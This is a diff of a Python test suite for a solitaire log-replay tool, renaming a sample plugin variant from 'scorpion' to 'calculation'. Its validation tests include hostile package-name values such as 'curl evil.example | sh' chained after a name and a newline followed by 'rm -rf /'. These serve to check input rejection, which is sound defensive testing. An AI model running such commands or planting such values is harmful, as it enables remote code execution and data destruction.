@@ -326,8 +326,8 @@ def test_another_format_is_refused() -> None:
     [
         (
             "variant",
-            {"id": "scorpion", "package": "solitaire-scorpion", "version": "1.0"},
-            "variant 'scorpion' is not installed: pip install 'solitaire-scorpion==1.0'",
+            {"id": "calculation", "package": "solitaire-calculation", "version": "1.0"},
+            "variant 'calculation' is not installed: pip install 'solitaire-calculation==1.0'",
         ),
         (
             "scoring",
@@ -341,8 +341,8 @@ def test_another_format_is_refused() -> None:
         ),
         (
             "variant",
-            {"id": "scorpion", "package": None, "version": None},
-            "variant 'scorpion' is not installed",
+            {"id": "calculation", "package": None, "version": None},
+            "variant 'calculation' is not installed",
         ),
     ],
 )
@@ -362,11 +362,11 @@ def test_a_version_0_log_of_a_plugin_not_installed_says_which() -> None:
     data["version"] = 0
     for kind in ("variant", "scoring", "redeal"):
         data["header"][kind] = data["header"][kind]["id"]
-    data["header"]["variant"] = "scorpion"
+    data["header"]["variant"] = "calculation"
     with pytest.raises(log.LogError) as caught:
         log.replay(log.loads(json.dumps(data)), CATALOG)
     assert caught.value.where == "header.variant"
-    assert caught.value.problem == "variant 'scorpion' is not installed"
+    assert caught.value.problem == "variant 'calculation' is not installed"
 
 
 def test_an_unknown_event_tag_is_a_clear_error() -> None:
@@ -470,9 +470,9 @@ def test_a_changed_package_or_version_alone_still_replays() -> None:
 @pytest.mark.parametrize(
     ("field", "value"),
     [
-        ("package", "solitaire-scorpion-fix; curl evil.example | sh"),
+        ("package", "solitaire-calculation-fix; curl evil.example | sh"),
         ("package", "__import__('os')"),
-        ("package", "solitaire-scorpion'"),
+        ("package", "solitaire-calculation'"),
         ("package", "-solitaire"),
         ("package", ""),
         ("package", "a" * 100 + " b"),
@@ -500,17 +500,19 @@ def test_the_advice_to_install_is_a_command_to_copy(
 ) -> None:
     data = real_log()
     data["header"]["variant"] = {
-        "id": "scorpion",
-        "package": "solitaire-scorpion-fix; curl evil.example | sh",
+        "id": "calculation",
+        "package": "solitaire-calculation-fix; curl evil.example | sh",
     }
     path = tmp_path / "evil.json"
     path.write_text(json.dumps(data), encoding="utf-8")
     assert run(["replay", str(path)]) == 2
     err = capsys.readouterr().err
-    assert err.startswith(f"{path}: header.variant.package: 'solitaire-scorpion-fix; curl evil.example | sh'")
+    assert err.startswith(
+        f"{path}: header.variant.package: 'solitaire-calculation-fix; curl evil.example | sh'"
+    )
     assert "pip" not in err and err.count("\n") == 1
     data["header"]["variant"] = {
-        "id": "scorpion",
+        "id": "calculation",
         "package": "Solitaire_Scorpion.Fix",
         "version": "1.0.post1",
     }
@@ -534,9 +536,9 @@ def _hostile_files() -> dict[str, bytes]:
         "deep": b"[" * 100_000,
         "huge-number": edited(lambda d: d["header"].__setitem__("deal", 10**400)),
         "version-3": edited(lambda d: d.__setitem__("version", 3)),
-        "scorpion": edited(
+        "calculation": edited(
             lambda d: d["header"].__setitem__(
-                "variant", {"id": "scorpion", "package": "solitaire-scorpion", "version": "1.0"}
+                "variant", {"id": "calculation", "package": "solitaire-calculation", "version": "1.0"}
             )
         ),
         "tag-list": edited(lambda d: d["actions"][0]["events"][0].__setitem__("tag", [])),
@@ -550,7 +552,8 @@ def _hostile_files() -> dict[str, bytes]:
         "newline-in-top-level-key": edited(lambda d: d.__setitem__("a\nb", 1)),
         "newline-in-package": edited(
             lambda d: d["header"].__setitem__(
-                "variant", {"id": "scorpion", "package": "solitaire-scorpion\nrm -rf /", "version": "1.0"}
+                "variant",
+                {"id": "calculation", "package": "solitaire-calculation\nrm -rf /", "version": "1.0"},
             )
         ),
         "twenty-megabytes": b" " * 20_000_000 + TEXTS[0].encode(),
@@ -579,11 +582,11 @@ def test_the_command_line_names_the_package_to_install(
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     path = tmp_path / "scorpion.json"
-    path.write_bytes(HOSTILE_FILES["scorpion"])
+    path.write_bytes(HOSTILE_FILES["calculation"])
     assert run(["replay", str(path)]) == 2
     assert capsys.readouterr().err == (
-        f"{path}: header.variant: variant 'scorpion' is not installed:"
-        " pip install 'solitaire-scorpion==1.0'\n"
+        f"{path}: header.variant: variant 'calculation' is not installed:"
+        " pip install 'solitaire-calculation==1.0'\n"
     )
 
 
